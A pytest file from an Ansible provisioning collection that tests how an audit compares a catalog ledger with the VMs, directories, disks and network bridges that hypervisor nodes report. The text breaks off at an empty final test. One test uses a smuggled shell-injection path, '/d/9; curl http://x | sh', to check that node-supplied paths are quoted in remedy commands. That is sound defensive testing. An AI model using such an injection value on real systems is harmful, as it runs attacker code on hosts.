# Copyright: (c) 2026, nebula.provision contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The audit's comparison where no real thing is needed; tests/integration/test_audit.py has the rest."""

from __future__ import annotations

import re
from dataclasses import replace
from pathlib import Path

import pytest

from ansible_collections.nebula.provision.plugins.filter.observed import observed
from ansible_collections.nebula.provision.plugins.module_utils.hypervisors.node_inventory import qcow2_size_and_backing
from ansible_collections.nebula.provision.plugins.module_utils.model.audit import (
    Bridge,
    Domain,
    Inventory,
    Ledger,
    LedgerVm,
    SwitchBridge,
    UplinkDevice,
    VmDirectory,
    VmFile,
)
from ansible_collections.nebula.provision.plugins.module_utils.model.audit_finding import KINDS, Finding
from ansible_collections.nebula.provision.plugins.module_utils.model.dataclass_json import from_plain, to_plain
from ansible_collections.nebula.provision.plugins.module_utils.model.datastore import Datastore, DatastoreType
from ansible_collections.nebula.provision.plugins.module_utils.model.disk import Disk
from ansible_collections.nebula.provision.plugins.module_utils.model.image import Image
from ansible_collections.nebula.provision.plugins.module_utils.model.image_operations import Return
from ansible_collections.nebula.provision.plugins.module_utils.model.move import MoveSeen
from ansible_collections.nebula.provision.plugins.module_utils.model.network import Network
from ansible_collections.nebula.provision.plugins.module_utils.model.nic import Nic
from ansible_collections.nebula.provision.plugins.module_utils.model.nic_filter_rules import Guard
from ansible_collections.nebula.provision.plugins.module_utils.model.plan import Observed
from ansible_collections.nebula.provision.plugins.module_utils.model.vm import Graphics, Vm
from ansible_collections.nebula.provision.plugins.module_utils.network import (
    bridge_sysctls,
    nat,
    nic_filter,
    router_advertisements,
)
from ansible_collections.nebula.provision.plugins.module_utils.network.desired_bridge import Wanted, merge_by_bridge
from ansible_collections.nebula.provision.plugins.module_utils.reconcile import audit_findings
from ansible_collections.nebula.provision.plugins.module_utils.reconcile.audit_findings import compare, doubts
from ansible_collections.nebula.provision.plugins.module_utils.reconcile.vms.nodes_answers import polls_of

ROOT = Path(__file__).resolve().parents[5]
CATALOG = "0b4c0e1f-8c55-4b0e-9d6a-2f1f3c7d9a10"


def ledger(**changes) -> Ledger:
    vm = Vm(3, "u3", "web", "kvm", 1.0, 64)
    entry = LedgerVm(vm, "node1", "RUNNING", "RUNNING", changes.pop("settled", True), 1)
    return Ledger(CATALOG, 5, hosts={"node1": "MONITORED"}, vms=(entry,), **changes)


def node(**seen) -> Observed:
    return Observed("node1", catalog=CATALOG, plan_number=5, inventory=Inventory(**seen))


def kinds(found) -> list[str]:
    return [finding.kind for finding in found]


def test_every_kind_is_explained() -> None:
    rows = dict(re.findall(r"^\| `([a-z-]+)` \| ([^|]+) \|", (ROOT / "docs/audit.md").read_text(), re.MULTILINE))
    assert rows == KINDS


def test_every_kind_that_is_used_is_known() -> None:
    sources = [
        "reconcile/audit_findings.py",
        "storage/datastore_audit.py",
        "engines/embedded/ledger.py",
        "reconcile/ovn_northbound.py",
    ]
    text = "".join((ROOT / "plugins/module_utils" / each).read_text() for each in sources)
    assert set(re.findall(r'Finding\(\s*"([a-z-]+)"', text)) == set(KINDS)


def test_a_host_without_an_answer_is_a_finding_with_the_reason() -> None:
    answers = observed([{"unreachable": True, "msg": "no route"}], ["node1"])
    found = compare(ledger(), polls_of(answers))
    assert kinds(found) == ["host-silent"] and "no route" in found[0].found


def test_a_node_that_was_only_polled_is_no_node_where_nothing_differs() -> None:
    assert kinds(compare(ledger(), [Observed("node1", catalog=CATALOG)])) == ["host-unseen"]


def test_a_plan_that_was_not_given_makes_the_catalog_no_older_copy() -> None:
    newer = replace(node(), plan_number=ledger().plan + 4)
    (older,) = compare(ledger(settled=False), [newer])
    assert "an older copy" in older.found and "nebula.provision.restore" in older.remedy
    (made_up,) = compare(ledger(settled=False), [newer], ["node1"])
    assert "which it was not given" in made_up.found and "restore" not in made_up.remedy


def test_another_catalogs_machines_beside_ours_are_no_difference() -> None:
    there = Domain("one-9", "other", 9, "u9", "RUNNING", directory="/srv/other/datastores/0/9")
    here = Domain("one-8", "other", 8, "u8", "RUNNING", directory="/srv/ours/datastores/0/8")
    found = compare(ledger(settled=False), [node(place="/srv/ours/datastores/0", domains=(there, here))])
    assert kinds(found) == ["domain-foreign"] and "machine 8" in found[0].found


def test_before_a_catalog_is_begun_and_after_its_end_there_is_nothing_to_differ() -> None:
    assert compare(Ledger("new", begun=False), [Observed("node1", inventory=Inventory())]) == []


def test_of_a_damaged_catalog_nothing_else_is_said() -> None:
    damage = Finding("catalog-damaged", "", "catalog", "x", "y")
    assert compare(ledger(damaged=True, findings=(damage,)), [node()]) == [damage]


def test_a_machine_that_is_not_settled_is_not_looked_at_but_its_strangers_are() -> None:
    assert compare(ledger(settled=False), [node()]) == []
    stranger = Domain("one-9", CATALOG, 9, "u9", "RUNNING", forget="virsh destroy one-9")
    found = compare(ledger(settled=False), [node(domains=(stranger,))])
    assert kinds(found) == ["domain-left"] and "virsh destroy one-9" in found[0].remedy


def test_a_machine_on_another_host() -> None:
    domain = Domain("one-3", CATALOG, 3, "u3", "RUNNING", autostart=True)
    hosts = {"node1": "MONITORED", "node2": "MONITORED"}
    other = Observed("node2", catalog=CATALOG, inventory=Inventory(domains=(domain,)))
    found = compare(ledger().__class__(**{**ledger().__dict__, "hosts": hosts}), [node(), other])
    assert kinds(found) == ["domain-missing", "directory-missing", "domain-left"]
    assert "which the catalog has on host node1" in found[2].found


WHOLE = "7c0d1f0a-1111-4222-8333-123456789abc"
ENDING = re.compile(r"\b(destroy|undefine|rm)\b")


def two_names() -> Ledger:
    """Machine 3 is on node1, and node2 has none."""
    disk = Disk(0, "vda", "data", source="/x", image_uuid="i1", generation=2, clone=False, save=True)
    entry = replace(ledger().vms[0], vm=Vm(3, WHOLE, "web", "kvm", 1.0, 64, disks=(disk,)))
    return replace(ledger(), hosts={"node1": "MONITORED", "node2": "MONITORED"}, vms=(entry,))


@pytest.mark.parametrize(
    "command",
    [
        "virsh -c qemu:///system destroy one-3; virsh -c qemu:///system undefine --nvram one-3",
        f"virsh destroy {WHOLE}",
        "xl destroy one-3; rm -f /etc/xen/one-3.cfg",
        "vzctl stop 100003 --fast; vzctl destroy 100003; rm -f /etc/vz/conf/100003.conf",
    ],
)
@pytest.mark.parametrize(
    "told",
    [
        {"vm_id": 3, "uuid": WHOLE},
        # Of the same id with another UUID, and what says to be a machine that nobody knows.
        {"vm_id": 3, "uuid": "u9"},
        {"vm_id": 9, "uuid": "u9"},
    ],
)
@pytest.mark.parametrize("asked", [True, False])
def test_no_command_ends_a_machine_that_the_catalog_has_under_another_host(command, told, asked) -> None:
    """Whether the other host was asked or not: it may be this one's other name."""
    domain = Domain("one-3", CATALOG, state="RUNNING", forget=command, undefine=command, **told)
    there = Observed("node2", catalog=CATALOG, inventory=Inventory(domains=(domain,)))
    found = compare(two_names(), [node(), there] if asked else [there])
    (left,) = [finding for finding in found if finding.kind == "domain-left"]
    assert left.host == "node2" and not ENDING.search(left.remedy)
    assert "the catalog has VM web (id 3) on host node1" in left.remedy


@pytest.mark.parametrize(
    "directory",
    [
        VmDirectory("/srv/datastores/0/3", "3", CATALOG, 3, WHOLE),
        VmDirectory("/srv/datastores/0/3", "3"),
        VmDirectory("/srv/datastores/0/3.old", "3.old", CATALOG, 3, WHOLE),
        VmDirectory("/srv/datastores/0/3", "9", CATALOG, 9, "u9"),
        VmDirectory("/srv/datastores/0/3", "old"),
    ],
)
def test_no_directory_is_removed_of_a_machine_that_the_catalog_has_under_another_host(directory) -> None:
    there = Observed("node2", catalog=CATALOG, inventory=Inventory(directories=(directory,)))
    (left,) = [finding for finding in compare(two_names(), [there]) if finding.kind == "directory-left"]
    assert not ENDING.search(left.remedy) and "on host node1" in left.remedy


@pytest.mark.parametrize("name", ["\u00b2", "9" * 5000, "\u0663", "09", "9\n", "-9"])
def test_a_directory_of_any_name_is_a_finding_like_others(name: str) -> None:
    """Nor is it taken for a machine's: the host that says so may be in somebody else's hands."""
    there = VmDirectory("/srv/datastores/0/x", name)
    (left,) = [finding for finding in compare(two_names(), [node(directories=(there,))]) if "left" in finding.kind]
    assert left.found == "no machine's directory has such a name"


NFS = Datastore(100, "nfs", DatastoreType.SYSTEM, shared=True, hosts=("node1", "node2"), mark=f"{CATALOG}.{'a' * 32}")


def test_in_a_shared_datastore_each_host_sees_the_machines_of_all() -> None:
    there = VmDirectory("/srv/datastores/0/3", "3", CATALOG, 3, WHOLE)
    left = VmDirectory("/srv/datastores/0/9", "9", CATALOG, 9, "u9")
    other = Observed("node2", catalog=CATALOG, inventory=Inventory(directories=(there, left)), datastore=NFS.mark)
    found = compare(replace(two_names(), datastores=(NFS,)), [other])
    assert [finding.object for finding in found if finding.kind == "directory-left"] == [
        "directory /srv/datastores/0/9"
    ]
    assert "datastore-mark" not in kinds(found)
    # A host that is not one of them has them as left over.
    alone = replace(two_names(), datastores=(replace(NFS, hosts=("node1",)),))
    assert kinds(compare(alone, [other])).count("directory-left") == 2


@pytest.mark.parametrize(
    "directory",
    [
        VmDirectory("/srv/datastores/0/9", "9", CATALOG, 9, "u9"),
        VmDirectory("/srv/datastores/0/9", "9"),
        VmDirectory("/srv/datastores/0/nine", "nine", CATALOG, 9, "u9"),
    ],
)
@pytest.mark.parametrize("ended", [True, False])
@pytest.mark.parametrize("declared", [True, False])
def test_no_directory_is_removed_that_another_host_runs_a_machine_from(directory, ended, declared) -> None:
    """Its host was forgotten, or never was the catalog's, and sees the same directory."""
    runs = Domain("one-9", CATALOG, 9, "u9", "RUNNING", forget="virsh destroy one-9")
    there = Observed("node3", catalog=CATALOG, inventory=Inventory(domains=(runs,)), datastore=NFS.mark)
    ledger = replace(two_names(), datastores=(NFS,) if declared else (), ended=frozenset({9} if ended else ()))
    here = replace(node(directories=(directory,)), datastore=NFS.mark)
    (left,) = [finding for finding in compare(ledger, [here, there]) if finding.kind == "directory-left"]
    assert left.host == "node1" and not ENDING.search(left.remedy)
    assert "host node3 has a domain of it, and may run it from this very directory" in left.remedy


def test_no_directory_is_removed_of_a_machine_that_was_given_up_with_another_host() -> None:
    """Nobody asks that host, and it may run on."""
    left = VmDirectory("/srv/datastores/0/9", "9", CATALOG, 9, "u9")
    ledger = replace(two_names(), datastores=(NFS,), ended=frozenset({9}), given_up={9: "node3"})
    here = replace(node(directories=(left,)), datastore=NFS.mark)
    (found,) = [finding for finding in compare(ledger, [here]) if finding.kind == "directory-left"]
    assert not ENDING.search(found.remedy) and "it was given up with host node3" in found.remedy
    assert "nebula_lost_host_gone: true" in found.remedy
    # Once it is gone for good, nobody runs it, unless somebody has mounted the datastore besides.
    (found,) = [
        finding for finding in compare(replace(ledger, given_up={}), [here]) if finding.kind == "directory-left"
    ]
    assert "Other hosts see it as well (shared datastore nfs; hosts node1, node2" in found.remedy
    assert found.remedy.endswith("then: rm -r /srv/datastores/0/9")
    # What a host has of its own needs no look at others.
    alone = compare(replace(ledger, given_up={9: "node1"}), [replace(here, datastore="")])
    (found,) = [finding for finding in alone if finding.kind == "directory-left"]
    assert found.remedy == "See that nothing in it is needed, then: rm -r /srv/datastores/0/9"


@pytest.mark.parametrize(
    ("hosts", "shown", "text"),
    [
        (("node1", "node2"), "", "does not show shared datastore nfs: its system datastore has no mark of one"),
        (("node1",), NFS.mark, "is shared datastore nfs, and this host is none of its hosts"),
    ],
)
def test_a_host_that_shows_another_datastore_than_its_own(hosts, shown, text) -> None:
    other = Observed("node2", catalog=CATALOG, inventory=Inventory(), datastore=shown)
    found = compare(replace(two_names(), datastores=(replace(NFS, hosts=hosts),)), [other])
    (mark,) = [finding for finding in found if finding.kind == "datastore-mark"]
    assert mark.host == "node2" and text in mark.found and not ENDING.search(mark.remedy)


@pytest.mark.parametrize("seen", [{"images": ("own-i1-2",)}, {"returns": {"i1-2": 7}}])
def test_what_a_machine_under_another_host_writes_is_not_removed(seen) -> None:
    image = Image(1, "data", uuid="i1", generation=2, operation=None if "images" in seen else Return("node1"))
    there = Observed("node2", catalog=CATALOG, inventory=Inventory(), **seen)
    whole = replace(two_names(), images=(image,))
    (left,) = [finding for finding in compare(whole, [there]) if finding.kind == "file-left"]
    assert "remove" not in left.remedy and "node1" in left.found + left.remedy


def test_what_no_machine_has_is_still_removed_by_its_command() -> None:
    stray = Domain("one-9", CATALOG, 9, "u9", "RUNNING", forget="virsh destroy one-9")
    left = VmDirectory("/srv/datastores/0/9", "9", CATALOG, 9, "u9")
    own = VmDirectory("/srv/datastores/0/3", "3", CATALOG, 3, WHOLE, files=(VmFile("junk"), VmFile("vm.json")))
    copied = VmDirectory("/srv/datastores/0/77", "77", CATALOG, 3, WHOLE)
    here = node(domains=(stray,), directories=(left, own, copied))
    remedies = [finding.remedy for finding in compare(two_names(), [here])]
    ours = [f"rm -r /srv/datastores/0/{name}" for name in ("9", "77", "3/junk")]
    for command in ("virsh destroy one-9", *ours):
        assert any(command in remedy for remedy in remedies)


def test_a_path_that_a_node_names_is_one_word_to_a_shell() -> None:
    hostile = VmDirectory("/d/9; curl http://x | sh", "9", CATALOG, 9, "u9")
    remedies = [finding.remedy for finding in compare(two_names(), [node(directories=(hostile,))])]
    assert any("rm -r '/d/9; curl http://x | sh'" in remedy for remedy in remedies)


@pytest.mark.parametrize("state", ["UNKNOWN", "SUSPENDED"])
def test_saved_memory_is_not_thrown_away_because_its_host_was_not_heard(state: str) -> None:
    vm = LedgerVm(Vm(3, "u3", "web", "kvm", 1.0, 64), "node1", state, "SUSPENDED", True, 1)
    saved = VmDirectory("/d/3", "3", CATALOG, 3, "u3", 1, (VmFile("checkpoint", size=9), VmFile("vm.json")))
    domain = Domain("one-3", CATALOG, 3, "u3", "POWEROFF")
    whole = Ledger(CATALOG, 5, hosts={"node1": "MONITORED"}, vms=(vm,))
    assert compare(whole, [node(domains=(domain,), directories=(saved,))]) == []
    running = Ledger(CATALOG, 5, hosts={"node1": "MONITORED"}, vms=(replace(vm, state="RUNNING", wanted="RUNNING"),))
    found = compare(running, [node(domains=(replace(domain, state="RUNNING", autostart=True),), directories=(saved,))])
    assert kinds(found) == ["checkpoint"] and "rm /d/3/checkpoint" in found[0].remedy


@pytest.mark.parametrize(("form", "found"), [("tar", []), ("raw", ["file-left"])])
def test_what_a_container_has_changed_of_its_image_is_its_own(form: str, found: list[str]) -> None:
    disk = Disk(0, "", source="/x", format=form, driver=form)
    vm = LedgerVm(Vm(3, "u3", "web", "lxc", 1.0, 64, disks=(disk,)), "node1", "POWEROFF", "POWEROFF", True, 1)
    root = VmFile("disk.0", kind="directory" if form == "tar" else "file")
    files = (root, VmFile("disk.0.layers", kind="directory"), VmFile("vm.json"))
    directory = VmDirectory("/d/3", "3", CATALOG, 3, "u3", 1, files)
    domain = Domain("one-3", CATALOG, 3, "u3", "POWEROFF", disks=("/d/3/disk.0",))
    whole = Ledger(CATALOG, 5, hosts={"node1": "MONITORED"}, vms=(vm,))
    assert kinds(compare(whole, [node(domains=(domain,), directories=(directory,))])) == found


def test_a_machine_that_stands_still_has_its_memory_where_it_is() -> None:
    vm = LedgerVm(Vm(3, "u3", "web", "lxc", 1.0, 64), "node1", "SUSPENDED", "SUSPENDED", True, 1)
    directory = VmDirectory("/d/3", "3", CATALOG, 3, "u3", 1, (VmFile("vm.json"),))
    whole = Ledger(CATALOG, 5, hosts={"node1": "MONITORED"}, vms=(vm,))
    frozen = Domain("one-3", CATALOG, 3, "u3", "SUSPENDED")
    assert compare(whole, [node(domains=(frozen,), directories=(directory,))]) == []
    # Its host was booted: it is off, and what it knew is gone.
    found = compare(whole, [node(domains=(replace(frozen, state="POWEROFF"),), directories=(directory,))])
    assert kinds(found) == ["checkpoint"] and "hard: true" in found[0].remedy
    found = compare(whole, [node(domains=(replace(frozen, state="RUNNING"),), directories=(directory,))])
    assert "machine-state" in kinds(found)


@pytest.mark.parametrize(("attributes", "run"), [({}, "provision.site"), ({"INSTALLS": "debian12"}, "install_os")])
def test_a_machine_in_another_state_names_the_run_that_mends_it(attributes, run) -> None:
    vm = LedgerVm(Vm(3, "u3", "web", "kvm", 1.0, 64, attributes=attributes), "node1", "RUNNING", "RUNNING", True, 1)
    directory = VmDirectory("/d/3", "3", CATALOG, 3, "u3", 1, (VmFile("vm.json"),))
    off = Domain("one-3", CATALOG, 3, "u3", "POWEROFF", autostart=not attributes)
    for domains, kind in (((off,), "machine-state"), ((), "domain-missing")):
        whole = Ledger(CATALOG, 5, hosts={"node1": "MONITORED"}, vms=(vm,))
        found = compare(whole, [node(domains=domains, directories=(directory,))])
        assert kinds(found) == [kind] and run in found[0].remedy


@pytest.mark.parametrize(
    ("disk", "size", "found"),
    [
        (Disk(0, "vda", "SWAP", size=64, driver="raw"), 64 << 20, []),
        (
            Disk(0, "vda", "SWAP", size=64, driver="raw"),
            (64 << 20) - 1,
            ["its file /d/3/disk.0 has 67108863 bytes, and is to have 67108864"],
        ),
        (
            Disk(0, "vda", "SWAP", size=64, driver="raw"),
            (64 << 20) + 1,
            ["its file /d/3/disk.0 has 67108865 bytes, and is to have 67108864"],
        ),
    ],
)
def test_a_disk_of_another_size_than_it_was_made_with(disk: Disk, size: int, found: list[str]) -> None:
    vm = LedgerVm(Vm(3, "u3", "web", "kvm", 1.0, 64, disks=(disk,)), "node1", "RUNNING", "RUNNING", True, 1)
    seen = (VmFile("disk.0", size=size), VmFile("vm.json"))
    directory = VmDirectory("/d/3", "3", CATALOG, 3, "u3", 1, seen)
    domain = Domain("one-3", CATALOG, 3, "u3", "RUNNING", autostart=True, disks=("/d/3/disk.0",))
    whole = Ledger(CATALOG, 5, hosts={"node1": "MONITORED"}, vms=(vm,))
    told = compare(whole, [node(domains=(domain,), directories=(directory,))])
    assert [finding.found for finding in told] == found


@pytest.mark.parametrize(
    ("undefine", "remedy"),
    [("virsh undefine one-3", "virsh undefine one-3; then run"), ("", "libvirt is older than 8.9")],
)
def test_how_a_machine_is_defined_anew(undefine: str, remedy: str) -> None:
    nic = Nic(0, None, network="n", bridge="b", mac="02:00:00:00:00:01")
    vm = LedgerVm(Vm(3, "u3", "web", "kvm", 1.0, 64, nics=(nic,)), "node1", "RUNNING", "RUNNING", True, 1)
    directory = VmDirectory("/d/3", "3", CATALOG, 3, "u3", 1, (VmFile("vm.json"),))
    domain = Domain("one-3", CATALOG, 3, "u3", "RUNNING", autostart=True, undefine=undefine)
    whole = Ledger(CATALOG, 5, hosts={"node1": "MONITORED"}, vms=(vm,))
    (finding,) = compare(whole, [node(domains=(domain,), directories=(directory,))])
    assert finding.kind == "domain-differs" and remedy in finding.remedy


def test_a_machine_that_gets_its_disks_when_it_is_off_has_those_that_it_was_started_with() -> None:
    """It is to lose disk 1, which has its file, and to get disk 2, which has none."""
    disk = Disk(2, "vda", "FS", size=64, driver="raw")
    vm = LedgerVm(Vm(3, "u3", "web", "kvm", 1.0, 64, disks=(disk,)), "node1", "RUNNING", "RUNNING", True, 1)
    directory = VmDirectory("/d/3", "3", CATALOG, 3, "u3", 1, (VmFile("disk.1", size=9), VmFile("vm.json")))
    domain = Domain("one-3", CATALOG, 3, "u3", "RUNNING", autostart=True, disks=("/d/3/disk.1",))
    seen = [node(domains=(domain,), directories=(directory,))]
    for found, awaits, detached in (
        ([], True, (1,)),
        (["file-left"], True, ()),
        (["disk-missing", "file-left"], False, ()),
    ):
        machine = replace(vm, awaits=awaits, detached=detached)
        whole = Ledger(CATALOG, 5, hosts={"node1": "MONITORED"}, vms=(machine,))
        assert kinds(compare(whole, seen)) == found


@pytest.mark.parametrize(("itself", "found"), [(True, []), (False, ["disk-missing", "file-left"])])
def test_the_disks_that_a_hypervisor_makes_itself_are_its_own(itself: bool, found: list[str]) -> None:
    disk = Disk(0, "", source="/x", format="tar", driver="tar", by_hypervisor=itself)
    vm = LedgerVm(Vm(3, "u3", "web", "openvz", 1.0, 64, disks=(disk,)), "node1", "RUNNING", "RUNNING", True, 1)
    directory = VmDirectory("/d/3", "3", CATALOG, 3, "u3", 1, (VmFile("images", "directory"), VmFile("vm.json")))
    domain = Domain("one-3", CATALOG, 3, "u3", "RUNNING", autostart=True)
    whole = Ledger(CATALOG, 5, hosts={"node1": "MONITORED"}, vms=(vm,))
    assert kinds(compare(whole, [node(domains=(domain,), directories=(directory,))])) == found


IMAGE = "5bd0b2a1-7d1c-4a6e-8a44-0a8f6f2f9d01"


@pytest.mark.parametrize(
    ("kept", "settled", "found"),
    [
        ({"images": (f"own-{IMAGE}-1",)}, True, []),
        ({"images": (f"own-{IMAGE}-2",)}, True, [f"file cache/own-{IMAGE}-2 below nebula_root"]),
        # What nobody wrote to is a copy of the front-end's.
        ({"images": (f"{IMAGE}-2",)}, True, []),
        ({"returns": {f"{IMAGE}-1": 9}}, True, [f"file transfer/out/{IMAGE}-1 below nebula_root"]),
        ({"returns": {f"{IMAGE}-2": 9}}, True, [f"file transfer/out/{IMAGE}-2 below nebula_root"]),
        ({"returns": {f"{IMAGE}-2": 9}}, False, []),
    ],
)
def test_what_machines_wrote_is_left_where_none_has_it_any_more(kept, settled: bool, found: list[str]) -> None:
    disk = Disk(0, "vda", image="data", image_uuid=IMAGE, generation=1, clone=False, save=True)
    vm = LedgerVm(Vm(3, "u3", "web", "kvm", 1.0, 64, disks=(disk,)), "node1", "RUNNING", "RUNNING", settled, 1)
    whole = Ledger(CATALOG, 5, hosts={"node1": "MONITORED"}, vms=(vm,))
    told = [finding for finding in compare(whole, [replace(node(), **kept)]) if finding.kind == "file-left"]
    assert [finding.object for finding in told] == found
    assert all(finding.found == "it is of an image that the catalog does not have" for finding in told)


QUIET = Network(1, "Quiet", "aaaaaaaa-0000-4000-8000-000000000001", bridge="nbr1")
OFFICE = Network(2, "Office", "aaaaaaaa-0000-4000-8000-000000000002", bridge="br0", vn_mad="dummy")


def test_a_bridge_that_takes_from_guests_what_it_should_not_differs_by_each_setting(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for family in ("ipv4", "ipv6"):
        (tmp_path / family).mkdir()
    monkeypatch.setattr(bridge_sysctls, "PROC", tmp_path)
    of_ours = nat.Rules(QUIET.uuid, "nbr1")
    seen = {
        "bridges": (Bridge("nbr1", CATALOG, QUIET.uuid, settings={"ipv6/accept_ra": "1", "ipv4/arp_ignore": "8"}),),
        "rules": {of_ours.comment: len(of_ours.rules)},
    }
    (found,) = compare(replace(ledger(networks=(QUIET,)), vms=()), [node(**seen)])
    assert (found.kind, found.object) == ("bridge-differs", "network Quiet, bridge nbr1")
    assert found.found == "net.ipv6.conf.nbr1.accept_ra is 1, and is to be 0"


@pytest.mark.parametrize(
    ("mtu", "found"), [(9000, []), (0, []), (1500, ["its MTU is 1500, and its machines are told 9000"])]
)
def test_a_bridge_that_does_not_carry_what_machines_are_told_differs(mtu: int, found: list[str]) -> None:
    jumbo, rules = replace(QUIET, attributes={"GUEST_MTU": "9000"}), nat.Rules(QUIET.uuid, "nbr1")
    seen = {"bridges": (Bridge("nbr1", CATALOG, QUIET.uuid, mtu=mtu),), "rules": {rules.comment: len(rules.rules)}}
    findings = compare(replace(ledger(networks=(jumbo,)), vms=()), [node(**seen)])
    assert [each.found for each in findings] == found


def test_what_keeps_machines_from_the_node_may_be_missing() -> None:
    bridge = Bridge("nbr1", CATALOG, QUIET.uuid)
    (found,) = compare(replace(ledger(networks=(QUIET,)), vms=()), [node(bridges=(bridge,))])
    assert (found.kind, found.object) == ("rules-missing", "network Quiet")


def test_networks_that_have_one_bridge_together_differ_each_for_itself() -> None:
    inner = {"NETWORK_ADDRESS": "10.67.0.0", "NETWORK_MASK": "255.255.255.0", "GATEWAY": "10.67.0.1"}
    translated = replace(QUIET, id=2, name="Inner", uuid=f"{QUIET.uuid[:-1]}2", nat=True, attributes=inner)
    both = replace(ledger(networks=(QUIET, translated)), vms=())
    rules = [each.rules for each in merge_by_bridge([Wanted.of(QUIET), Wanted.of(translated)])]
    seen = {
        "bridges": (Bridge("nbr1", CATALOG, translated.uuid, addresses=("10.67.0.1/24",)),),
        "rules": {each.comment: len(each.rules) for each in rules},
        "forwarding": True,
    }
    assert list(compare(both, [node(**seen)])) == []
    alone = Wanted.of(QUIET).rules
    findings = compare(both, [node(**{**seen, "bridges": (Bridge("nbr1", CATALOG, QUIET.uuid),), "rules": {
        alone.comment: len(alone.rules), rules[1].comment: len(rules[1].rules),
    }})])  # fmt: skip
    assert [(each.kind, each.object) for each in findings] == [
        ("bridge-differs", "network Inner, bridge nbr1"),
        ("rules-missing", "network Quiet"),
        ("rules-left", findings[-1].object),
    ]


def test_what_filters_a_machines_nic_may_be_missing_or_left() -> None:
    guard = Guard(3, 0, "one-3-0", "02:00:0a:42:00:0a", ("10.66.0.10",), filter_mac=True)
    told = {"node1": (guard, replace(guard, vm_id=4, port="one-4-0")), "node2": (replace(guard, port="one-9-0"),)}
    (whole,) = nic_filter.desired_digests([guard]).values()

    def found(settled: bool = True, **seen: str) -> list[tuple[str, str]]:
        ports = {f"one-{name[1:]}-0": digest for name, digest in seen.items()}
        rows = compare(ledger(guards=told, settled=settled), [node(filters=ports)])
        return [(row.kind, row.object) for row in rows if row.kind.startswith("rules")]

    missing = [("rules-missing", "VM web (id 3), NIC 0")]
    assert found(_3=whole) == []
    assert found() == found(_3="") == found(_3="0123456789ab") == missing
    earlier = nic_filter._render(guard).earlier
    assert found(_3=earlier) == missing and earlier != whole
    rows = compare(ledger(guards=told, settled=True), [node(filters={"one-3-0": earlier})])
    assert next(row.found for row in rows if row.kind == "rules-missing").endswith("are those of an earlier release")
    # What is about to be carried out brings its rules along.
    assert found(settled=False) == found(settled=False, _3=whole) == found(_3=whole, _4="0123456789ab") == []
    assert found(_3=whole, _9=whole) == [("rules-left", "interface one-9-0")]


def test_a_machine_on_ovn_may_lack_what_keeps_it_from_announcing_a_router() -> None:
    guard = Guard(3, 0, "one-3-0", "02:00:0a:42:00:0a", ("2001:db8::3",), True, True, on_ovn=True)
    files = router_advertisements.digests(router_advertisements.desired_chains([guard], CATALOG))

    def found(seen: dict[str, str]) -> list[tuple[str, str]]:
        rows = compare(ledger(guards={"node1": (guard,)}, settled=True), [node(filters=seen)])
        return [(row.kind, row.object) for row in rows if row.kind.startswith("rules")]

    assert found(files) == []
    assert found({}) == found({"one-3-0": "0123456789ab"}) == [("rules-missing", "VM web (id 3), NIC 0")]
    assert found({**files, "one-9-0": "0123456789ab"}) == [("rules-left", "interface one-9-0")]


OVERLAY = Network(
    3,
    "Overlay",
    "aaaaaaaa-0000-4000-8000-000000000003",
    bridge="nbr3",
    vn_mad="vxlan",
    attributes={"PHYDEV": "eth1", "VLAN_ID": "7"},
)
JOINED = Bridge("nbr3", CATALOG, OVERLAY.uuid, ports=("eth1.7",))
DEVICE = UplinkDevice("eth1.7", CATALOG, OVERLAY.uuid, "VXLAN 7 on eth1", "nbr3")


@pytest.mark.parametrize(
    ("bridge", "device", "found"),
    [
        (JOINED, DEVICE, []),
        (JOINED, None, []),
        (
            replace(JOINED, ports=()),
            DEVICE,
            ["eth1.7 is not attached to it, which joins it with the bridges of other hosts"],
        ),
        (JOINED, replace(DEVICE, up=False), ["eth1.7 is down"]),
        (
            JOINED,
            replace(DEVICE, network="x"),
            ["eth1.7 does not carry the mark of this network", "no network has VXLAN 7 on eth1"],
        ),
        (JOINED, replace(DEVICE, what="VXLAN 8 on eth1"), ["eth1.7 is VXLAN 8 on eth1, and is to be VXLAN 7 on eth1"]),
        (JOINED, replace(DEVICE, name="eth1.9"), ["no network has VXLAN 7 on eth1"]),
    ],
)
def test_what_joins_a_bridge_with_those_of_other_hosts(bridge, device, found) -> None:
    of_ours = nat.Rules(OVERLAY.uuid, "nbr3")
    seen = {
        "bridges": (bridge,),
        "devices": (device,) if device else (),
        "rules": {of_ours.comment: len(of_ours.rules)},
        "interfaces": ("nbr3", device.name) if device else ("nbr3",),
    }
    findings = compare(replace(ledger(networks=(OVERLAY,)), vms=()), [node(**seen)])
    assert [each.found for each in findings] == found


SWITCHED = Network(
    4,
    "Switched",
    "aaaaaaaa-0000-4000-8000-000000000004",
    bridge="ovsbr0",
    vn_mad="ovswitch",
    attributes={"PHYDEV": "eth1", "VLAN_ID": "7"},
)
SWITCH = SwitchBridge("ovsbr0", CATALOG, (SWITCHED.uuid,), "eth1", ports={"eth1": "all VLANs"})


@pytest.mark.parametrize(
    ("bridge", "kind", "found"),
    [
        (SWITCH, "", []),
        (None, "bridge-missing", ["Open vSwitch has none"]),
        (replace(SWITCH, running=False), "bridge-differs", ["Open vSwitch does not run"]),
        (
            replace(SWITCH, up=True),
            "bridge-differs",
            ["the host's own port of it is up, so that the host is a member of the network"],
        ),
        (
            replace(SWITCH, ports={}),
            "bridge-differs",
            ["eth1 is not attached to it, which joins it with the bridges of other hosts"],
        ),
        (replace(SWITCH, port_up=False), "bridge-differs", ["eth1 is down"]),
        (
            replace(SWITCH, ports={"eth1": "VLAN 7"}),
            "bridge-differs",
            ["eth1 carries VLAN 7, and is to carry all VLANs"],
        ),
        (replace(SWITCH, catalog="other"), "bridge-missing", ["Open vSwitch has none"]),
    ],
)
def test_a_bridge_of_open_vswitch_is_gone_or_changed(bridge, kind, found) -> None:
    seen = {"switches": (bridge,) if bridge else ()}
    findings = compare(replace(ledger(networks=(SWITCHED,)), vms=()), [node(**seen)])
    assert [(each.kind, each.found) for each in findings] == [(kind, text) for text in found]


def test_a_bridge_of_open_vswitch_that_no_network_has_is_left_over() -> None:
    (found,) = compare(replace(ledger(), vms=()), [node(switches=(SWITCH,))])
    assert (found.kind, found.object, found.found) == ("bridge-left", "bridge ovsbr0", "no network has it")
    assert "ovs-vsctl del-br ovsbr0" in found.remedy


def test_a_bridge_of_the_hosts_own_is_no_difference_but_a_doubt() -> None:
